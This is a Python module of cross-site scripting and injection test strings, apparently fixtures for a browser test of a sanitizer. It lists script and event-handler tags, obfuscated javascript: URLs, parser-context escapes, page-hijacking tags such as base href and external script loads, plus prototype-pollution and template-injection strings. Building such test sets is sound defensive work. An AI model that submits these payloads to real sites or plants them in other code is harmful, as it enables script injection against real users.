"""What the ways to plant markup are made of. Whatever runs calls `alert(1)`, or loads `x`: a browser test notices either."""

from __future__ import annotations

CALL = "alert(1)"
SEEDS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
)
"""One each of what runs by itself when it is parsed, loaded, drawn or framed."""


def _lines(block: str) -> tuple[str, ...]:
    return tuple(block.strip("\n").split("\n"))


HANDLERS = {
    "img src=x": "onerror",
    "svg": "onload",
    "body": "onpageshow",
    "input autofocus": "onfocus",
    "details open": "ontoggle",
    "video src=x": "onerror",
    "audio src=x": "onerror",
    "source src=x": "onerror",
    "iframe src=x": "onload",
    "object data=x": "onerror",
    "link rel=stylesheet href=x": "onerror",
    "marquee": "onstart",
    "div style=animation-name:a": "onanimationstart",
    "a href=# style=position:fixed;inset:0": "onmouseover",
    "select autofocus": "onfocusin",
    "dialog popover id=p": "onbeforetoggle",
}
"""Elements, each with the handler that needs the least help from a person."""

QUOTINGS = ("={}", "='{}'", '="{}"', "=`{}`", "\n=\t{}", "={}//")

SCHEMES = (
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "javascript\t:alert(1)",
    "java\0script:alert(1)",
    "java\u200bscript:alert(1)",
    "jav\u0430script:alert(1)",
    *_lines(r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
java&Tab;script&colon;alert(1)
&#106;avascript:alert(1)
&#x6A;avascript&#x3a;alert(1)
javascript&#58alert(1)
%6aavascript:alert(1)
javascript:alert%281%29
javascript://example.org/%0aalert(1)
javascript:/*--></title>*/alert(1)
javascript:'\x3cscript\x3ealert(1)'
feed:javascript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
data:,x
view-source:x
about:srcdoc
blob:x
file:///x
intent://x#Intent;end
"""),
)

LINKS = (
    "https://example.org\u202egpj.exe",
    "https://exa\u200bmple.org/",
    "https://example.org\0.x",
    "https://\u0435xample.org",
    f"https://example.org/{'a' * 2000}",
    *_lines(r"""
https://example.org/"onmouseover="alert(1)
https://example.org/'onclick='alert(1)
https://example.org/`onclick=alert(1)`
https://example.org/><img/src=x>
https://example.org/?q=<script>alert(1)</script>
https://example.org/%22%3E%3Csvg%3E
https://example.org/?a&lt;b&quot;
https://example.org/#:~:text=x
https://javascript:alert(1)@example.org
javascript:https://example.org/alert(1)
xjavascript:alert(1)//https://example.org
http://alert(1)//example.org
see:(https://example.org/a_(b))<script>
https://xn--e1awd7f.org
https:\\example.org
https:example.org
HTTPS://EXAMPLE.ORG
https://[::1]/<b>
https://127.0.0.1:1/
http://0x7f.1/
//example.org/x
\\example.org\x
www.example.org/<img src=x onerror=alert(1)>
mailto:a@example.org?body=<script>alert(1)</script>"onclick="alert(1)
"<img src=x>"@example.org
a@example.org'onclick=alert(1)
ftp://example.org/x
ws://example.org
tel:+1
sms:+1?body=x
"""),
)

MARKDOWN = _lines(r"""
[x]({})
![x]({})
[x]: {} 'onclick=alert(1)'
<{}>
[x]({} "a\" onmouseover=alert(1)")
<a href="{}">x</a>
[url={}]x[/url]
""")

PREFIXES = (
    "\r\n\r\n",
    "\ufeff",
    "\u2028",
    *_lines(r"""
">
'>
`>
-->
--!>
]]>
</title>
</textarea>
</script>
</style>
</noscript>
</template>
</svg>
*/
\">
';//
{@html '
${`
{{
<%=
<!--><
"""),
)
"""What might end the place that a text stands in."""

SURROUNDINGS = _lines(r"""
<svg>{}</svg>
<svg><foreignObject>{}</foreignObject></svg>
<svg><style>{}
<svg></p><style><a id='</style>{}'>
<math><mtext>{}</mtext></math>
<math><mtext><table><mglyph><style><!--</style>{}
<math><annotation-xml encoding=text/html>{}
<form><math><mtext></form><form><mglyph><style></math>{}
<noscript>{}</noscript>
<noscript><p title='</noscript>{}'>
<template>{}</template>
<template shadowrootmode=open>{}</template>
<style>@import 'x';</style>{}
<textarea>{}</textarea>
<title>{}</title>
<xmp>{}</xmp>
<plaintext>{}
<!--{}-->
<![CDATA[{}]]>
<select><option>{}
<table><td>{}
<b><p></b>{}
<a><a>{}
<p title="{}">
<iframe srcdoc='{}'>
<?xml version='1.0'?>{}
<!DOCTYPE x [<!ENTITY e '{}'>]>&e;
""")
"""Where parsers change their rules, so that what was harmless text is markup after a second reading."""

PAGE_CHANGERS = _lines(r"""
<base href=//example.org/>
<meta http-equiv=refresh content=0>
<meta http-equiv=refresh content='0;url=//example.org'>
<meta http-equiv=Content-Security-Policy content="default-src *">
<style>*{display:none}</style>
<style>@import '//example.org'
<link rel=prefetch href=//example.org>
<link rel=manifest href=x>
<img src=//example.org/x>
<img srcset='x 1x'>
<input type=image src=x>
<bgsound src=x>
<embed src=x>
<object data=x>
<portal src=x>
<applet code=x>
<frameset onload=alert(1)>
<form action=//example.org><button autofocus>
<button formaction=javascript:alert(1)>x
<form id=location><input name=href>
<img name=body>
<img id=app name=cookie>
<a id=client><a id=client name=state>
<dialog open>
<div popover=auto>
<x is=y>
<slot name=x>
<svg><use href='data:image/svg+xml,<svg id=x/>#x'>
<svg><animate attributeName=href values=javascript:alert(1)>
<svg><a xlink:href=javascript:alert(1)><text>x
<math href=javascript:alert(1)>x
<script src=//example.org/x></script>
<script type=module>import('x')</script>
<script type=importmap>{}</script>
""")
"""What takes over a page without a script, or makes its own scripts do harm."""

ODDITIES = (
    "\0",
    "a\0b",
    "\x07\x1b[31mred",
    "\x7f\x85",
    "\u202eevil\u202c",
    "\u2067\u2069",
    "\u200b\u200d\ufeff",
    "\ufffe\uffff",
    "\U0010ffff",
    "\U000e0041",
    "a" + "\u0301" * 200,
    "\t",
    " <b> ",
    "\n<b>\n",
    "<b\r\nx>",
    "\N{WAVING BLACK FLAG}\U000e0067\U000e0062\U000e007f<b>",
    "\u05e9\u05dc\u05d5\u05dd<b>\u05e9\u05dc\u05d5\u05dd</b>",
    *_lines(r"""
{name}
{text}
{file}
{count}
{other}
{@html '<img src=x>'}
{#if true}x{/if}
${alert(1)}
#{alert(1)}
{{constructor.constructor('alert(1)')()}}
<%= alert(1) %>
{% raw %}
$&
$1
$`
$'
$$
%s%d%n
\
\n
__proto__
constructor
prototype
toString
valueOf
hasOwnProperty
then
length
null
undefined
NaN
[object Object]
__proto__[polluted]=1
constructor[prototype][polluted]=1
{"__proto__":{"polluted":1}}
{"constructor":{"prototype":{"polluted":1}}}
'
"
`
<
>
&
&amp
&lt;b&gt;
<b>b</b>
<p>
</article>
</p></div></body></html>
"""),
)
"""Templates, replacement patterns, names of what every object has, and characters that are not what they look like."""

SHORT = (
    "$&",
    "{name}",
    "__proto__",
    "\uff1cb\uff1e",
    "<b>\u200bx</b>",
    *_lines(r"""
<img src=x>
<svg onload=x>
<svg/onload=x>
<script>
</script>
</title><b>
"><b>x</b>
'onclick='x
<!--
-->
<iframe>
<base href=//x>
<style>*{
javascript:x()
&#60;b&#62;
%3Cb%3E
\u003cb\u003e
//example.org
a@example.org
[x](data:,x)
"""),
)
"""What fits into a person's name."""
